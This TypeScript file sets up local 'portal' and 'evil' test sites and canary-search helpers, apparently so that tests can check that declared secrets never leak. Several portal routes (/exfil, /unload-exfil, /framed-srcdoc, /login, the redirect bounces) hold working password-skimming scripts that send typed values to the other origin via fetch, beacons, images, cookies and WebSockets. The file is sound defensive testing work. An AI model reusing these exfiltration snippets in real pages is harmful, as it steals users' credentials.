// The attacker-side sites for declared-secret tests. Not a test file.
//
// "portal" is the site a secret is bound to; "evil" is another origin (same host, another port, so
// every network layer lets the browser reach it) that counts everything it receives: each request
// with its full URL, headers and body, every TCP connection, every WebSocket message and every UDP
// datagram on a port next to it. Tests assert that no canary ever arrives there.
import { createHash } from "node:crypto";
import { createSocket } from "node:dgram";
import type { Socket as UdpSocket } from "node:dgram";
import { createServer } from "node:http";
import type { IncomingMessage, ServerResponse } from "node:http";
import type { AddressInfo, Socket } from "node:net";

export interface Received {
  method: string;
  url: string;
  headers: string;
  body: string;
}

export interface CountingSite {
  origin: string;
  hostPort: string;
  received: Received[];
  wsMessages: string[];
  udpDatagrams: string[];
  udpPort: number;
  connections(): number;
  /** Everything this site received, as one text. */
  everything(): string;
  close(): Promise<void>;
}

type Handler = (req: IncomingMessage, res: ServerResponse, body: string, origins: { portal: string; evil: string }) => void;

const page = (title: string, body: string) => `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const html = (res: ServerResponse, content: string) => void res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(content);

async function startCountingSite(routes: Record<string, Handler>, origins: { portal: string; evil: string }): Promise<CountingSite> {
  const received: Received[] = [];
  const wsMessages: string[] = [];
  const udpDatagrams: string[] = [];
  let connections = 0;
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (chunk: Buffer) => chunks.push(chunk));
    req.on("end", () => {
      const body = Buffer.concat(chunks).toString("utf8");
      received.push({ method: req.method ?? "GET", url: req.url ?? "/", headers: JSON.stringify(req.headers), body });
      const path = (req.url ?? "/").split("?")[0] ?? "/";
      const handler = routes[path];
      if (handler === undefined) return void res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" }).end("ok");
      handler(req, res, body, origins);
    });
  });
  server.on("connection", () => {
    connections += 1;
  });
  // A minimal WebSocket endpoint: accepts the upgrade and records every text frame it receives.
  server.on("upgrade", (req: IncomingMessage, socket: Socket) => {
    received.push({ method: "UPGRADE", url: req.url ?? "/", headers: JSON.stringify(req.headers), body: "" });
    const key = String(req.headers["sec-websocket-key"] ?? "");
    const accept = createHash("sha1").update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest("base64");
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
    let buffer = Buffer.alloc(0);
    socket.on("data", (chunk: Buffer) => {
      buffer = Buffer.concat([buffer, chunk]);
      for (;;) {
        if (buffer.length < 2) return;
        const length7 = (buffer[1] ?? 0) & 0x7f;
        const masked = ((buffer[1] ?? 0) & 0x80) !== 0;
        let offset = 2;
        let length = length7;
        if (length7 === 126) {
          if (buffer.length < 4) return;
          length = buffer.readUInt16BE(2);
          offset = 4;
        }
        const maskOffset = offset;
        if (masked) offset += 4;
        if (buffer.length < offset + length) return;
        const payload = Buffer.from(buffer.subarray(offset, offset + length));
        if (masked) for (let i = 0; i < payload.length; i += 1) payload[i] = (payload[i] ?? 0) ^ (buffer[maskOffset + (i % 4)] ?? 0);
        wsMessages.push(payload.toString("utf8"));
        buffer = buffer.subarray(offset + length);
      }
    });
    socket.on("error", () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as AddressInfo).port;
  const udp: UdpSocket = createSocket("udp4");
  udp.on("message", (message) => udpDatagrams.push(message.toString("latin1")));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${port}`,
    hostPort: `127.0.0.1:${port}`,
    received,
    wsMessages,
    udpDatagrams,
    udpPort: udp.address().port,
    connections: () => connections,
    everything: () => JSON.stringify({ received, wsMessages, udpDatagrams }),
    close: () =>
      new Promise<void>((resolve) => {
        udp.close();
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** What an attacker-side test runs against: the bound portal and the counting evil origin. */
export interface SecretSites {
  portal: CountingSite;
  evil: CountingSite;
  close(): Promise<void>;
}

export async function startSecretSites(): Promise<SecretSites> {
  const origins = { portal: "", evil: "" };
  const evil = await startCountingSite(
    {
      "/login": (_req, res) =>
        html(
          res,
          page(
            "Evil login",
            `<form method="post" action="/collect"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form><script>document.getElementById("password").addEventListener("input",e=>{fetch("/typed?v="+encodeURIComponent(e.target.value))})</script>`,
          ),
        ),
      "/frame-login": (_req, res) =>
        html(
          res,
          page(
            "Framed",
            `<input id="password" type="password"><script>document.getElementById("password").addEventListener("input",e=>{fetch("/typed?v="+encodeURIComponent(e.target.value))})</script>`,
          ),
        ),
    },
    origins,
  );
  origins.evil = evil.origin;
  const E = JSON.stringify(evil.origin);
  /** A page with a password field whose input handler runs `body` (with `e`, and E the other origin), and a #done line. */
  const onTyped =
    (title: string, body: string): Handler =>
    (_req, res) =>
      html(
        res,
        page(
          title,
          `<input id="password" type="password"><p id="done">ready</p><script>\nconst E=${E};\ndocument.getElementById("password").addEventListener("input",e=>{\n  ${body}\n});</script>`,
        ),
      );
  const portal = await startCountingSite(
    {
      "/login-cross": (_req, res) =>
        html(
          res,
          page(
            "Login",
            `<form id="f" method="post" action="${evil.origin}/collect"><input id="password" name="pw" type="password"><button id="go" type="submit">Sign in</button></form>`,
          ),
        ),
      "/login-ok": (_req, res) =>
        html(
          res,
          page(
            "Login",
            `<form method="post" action="/session"><input id="password" name="pw" type="password"><button id="go" type="submit">Sign in</button></form>`,
          ),
        ),
      "/session": (_req, res) => void res.writeHead(303, { location: "/home" }).end(),
      "/home": (_req, res) => html(res, page("Home", `<h1 id="title">Signed in</h1>`)),
      "/bounce-post": (_req, res) =>
        html(
          res,
          page(
            "Bounce",
            `<form method="post" action="/bounce"><input id="password" name="pw" type="password"><button id="go" type="submit">Go</button></form>`,
          ),
        ),
      "/bounce": (_req, res) => void res.writeHead(307, { location: `${evil.origin}/collect` }).end(),
      "/bounce-get": (_req, res) =>
        html(
          res,
          page(
            "Bounce",
            `<form method="get" action="/echo-redirect"><input id="password" name="pw" type="password"><button id="go" type="submit">Go</button></form>`,
          ),
        ),
      "/echo-redirect": (req, res) => void res.writeHead(302, { location: `${evil.origin}/landing?${(req.url ?? "").split("?")[1] ?? ""}` }).end(),
      "/framed": (_req, res) => html(res, page("Framed", `<iframe id="f" src="${evil.origin}/frame-login"></iframe>`)),
      "/framed-srcdoc": (_req, res) =>
        html(
          res,
          page(
            "Framed",
            `<iframe id="s" srcdoc="<input id='password' type='password'><script>document.getElementById('password').addEventListener('input',e=>{fetch('${evil.origin}/typed?v='+encodeURIComponent(e.target.value),{mode:'no-cors'})})</script>"></iframe>`,
          ),
        ),
      "/exfil": onTyped(
        "Exfil",
        `const v=e.target.value;
  const q=(p)=>fetch(E+p,{mode:"no-cors"}).catch(()=>{});
  q("/fetch?p="+encodeURIComponent(v));
  q("/upper?p="+encodeURIComponent(v.toUpperCase()));
  q("/spaced?p="+encodeURIComponent(v.split("").join(" ")));
  fetch(E+"/post-json",{method:"POST",mode:"no-cors",body:JSON.stringify({p:v})}).catch(()=>{});
  const x=new XMLHttpRequest();x.open("POST",E+"/xhr");x.send("p="+encodeURIComponent(v));
  navigator.sendBeacon(E+"/beacon",new Blob([v]));
  new Image().src=E+"/img?b="+btoa(v);
  document.cookie="sid="+encodeURIComponent(v)+"; path=/";
  new Image().src=E+"/cookie";
  try{const w=new WebSocket(E.replace("http","ws")+"/ws");w.onopen=()=>{w.send("hello");w.send("pw="+v)};w.onerror=()=>{}}catch(_){}
  document.getElementById("done").textContent="sent";`,
      ),
      // After typing: a cookie holding the value (cookies ignore ports, so the other origin gets it too), then a socket there sending nothing secret.
      "/ws-after": onTyped(
        "Sockets",
        `document.cookie="sid="+encodeURIComponent(e.target.value)+"; path=/";
  try{const w=new WebSocket(E.replace("http","ws")+"/ws");w.onopen=()=>w.send("hello");w.onerror=()=>{}}catch(_){}
  document.getElementById("done").textContent="tried";`,
      ),
      // Holds the typed value and sends it to the other origin only while the page unloads (a goto
      // step or a link click): beacons and keepalive fetches, raw, upper-cased and base64, from every
      // unload-time event a page has.
      "/unload-exfil": (_req, res) =>
        html(
          res,
          page(
            "Unload",
            `<input id="password" type="password"><a id="away" href="/home">away</a><p id="done">ready</p><script>
const to=new URLSearchParams(location.search).get("to");
const E=to===null?${E}:"http://"+to+":"+new URL(${E}).port;
let v="";
document.getElementById("password").addEventListener("input",e=>{v=e.target.value;document.getElementById("done").textContent="held";});
const send=(why)=>{
  navigator.sendBeacon(E+"/probe-"+why,"x");fetch(E+"/probeka-"+why,{mode:"no-cors",keepalive:true}).catch(()=>{});
  if(v==="")return;
  navigator.sendBeacon(E+"/beacon-"+why+"?p="+encodeURIComponent(v),"x");
  navigator.sendBeacon(E+"/beacon-body-"+why,new Blob([v.toUpperCase()]));
  fetch(E+"/keepalive-"+why,{method:"POST",mode:"no-cors",keepalive:true,body:"p="+encodeURIComponent(v)}).catch(()=>{});
  fetch(E+"/keepalive-get-"+why+"?b="+btoa(v),{mode:"no-cors",keepalive:true}).catch(()=>{});
};
for(const why of ["pagehide","unload","beforeunload","visibilitychange"])addEventListener(why,()=>send(why));
document.addEventListener("visibilitychange",()=>send("doc-visibilitychange"));
</script>`,
          ),
        ),
      "/echo": (_req, res) =>
        html(
          res,
          page(
            "Echo",
            `<input id="password" type="password"><button id="show">show</button>
<p id="upper" style="text-transform:uppercase"></p>
<div id="split"></div>
<pre id="spaced"></pre>
<p id="plain"></p>
<p id="partial"></p>
<script>
document.getElementById("show").addEventListener("click",()=>{
  const v=document.getElementById("password").value;
  document.getElementById("upper").textContent=v;
  const h=Math.floor(v.length/2);
  document.getElementById("split").innerHTML="<div>"+v.slice(0,h).replace(/</g,"&lt;")+"</div><div>"+v.slice(h).replace(/</g,"&lt;")+"</div>";
  document.getElementById("spaced").textContent=v.replace(/ /g,"   ");
  document.getElementById("plain").textContent="value: "+v;
  document.getElementById("partial").textContent="almost: "+v.slice(1);
  history.replaceState(null,"","/echo?v="+encodeURIComponent(v));
});</script>`,
          ),
        ),
    },
    origins,
  );
  origins.portal = portal.origin;
  return {
    portal,
    evil,
    close: async () => {
      await portal.close();
      await evil.close();
    },
  };
}

/**
 * The spellings a leak of `canary` may take in a text: itself, percent-encoded (decoded here, once
 * and twice), base64 at any byte alignment (so also inside a longer encoded blob) and hex.
 */
function canaryForms(canary: string): { plain: string; hex: string; base64: string[] } {
  const bytes = Buffer.from(canary);
  // Base64 of the canary as it would sit 0, 1 or 2 bytes into a longer encoded value: the characters
  // that depend only on the canary's own bytes (past the first group, short of the last).
  const base64 = [0, 1, 2]
    .map((shift) => {
      const encoded = Buffer.concat([Buffer.alloc(shift), bytes]).toString("base64");
      const from = shift === 0 ? 0 : 4;
      return encoded.slice(from, from + Math.min(16, Math.floor(((shift + bytes.length) * 4) / 3) - from));
    })
    .filter((form) => form.length >= 8);
  return { plain: squash(canary), hex: bytes.toString("hex"), base64 };
}

const squash = (s: string) => s.replace(/\s+/g, "").toLowerCase();

/** A text prepared once for many canary searches: its squashed, decoded and whitespace-free views. */
export function canarySearch(text: string): (canary: string) => boolean {
  const views = [text];
  for (let i = 0; i < 2; i += 1) {
    try {
      views.push(decodeURIComponent((views.at(-1) ?? "").replace(/\+/g, " ")));
    } catch {
      break;
    }
  }
  const squashed = views.map(squash);
  const compact = text.replace(/\s+/g, "");
  return (canary) => {
    const forms = canaryForms(canary);
    return squashed.some((view) => view.includes(forms.plain) || view.includes(forms.hex)) || forms.base64.some((form) => compact.includes(form));
  };
}

/**
 * True when `text` carries the canary: compared case-insensitively with all whitespace removed,
 * also after one and two rounds of percent-decoding, in hex, and in base64 at any alignment.
 */
export function carriesCanary(text: string, canary: string): boolean {
  return canarySearch(text)(canary);
}

/**
 * True when an image (a screenshot, a streamed frame) carries the canary in its bytes: searched
 * as the bytes themselves and as their base64 (the form an image travels in as JSON or MCP content).
 * Pixels are not read: text drawn into the image is not found this way.
 */
export function imageCarriesCanary(image: Buffer, canary: string): boolean {
  return carriesCanary(image.toString("latin1"), canary) || carriesCanary(image.toString("base64"), canary);
}

/**
 * Many named texts and images prepared once for many canary searches (a database file is searched
 * for every value without decoding it again): `find(canary)` names the first that carries it, or null.
 */
export function canaryHaystack(
  texts: readonly (readonly [string, string])[],
  images: readonly (readonly [string, Buffer])[] = [],
): (canary: string) => string | null {
  const searches: [string, (canary: string) => boolean][] = [
    ...texts.map(([name, text]) => [name, canarySearch(text)] as [string, (canary: string) => boolean]),
    ...images.flatMap(([name, image]) => [
      [name, canarySearch(image.toString("latin1"))] as [string, (canary: string) => boolean],
      [`${name} (base64)`, canarySearch(image.toString("base64"))] as [string, (canary: string) => boolean],
    ]),
  ];
  return (canary) => searches.find(([, carries]) => carries(canary))?.[0] ?? null;
}
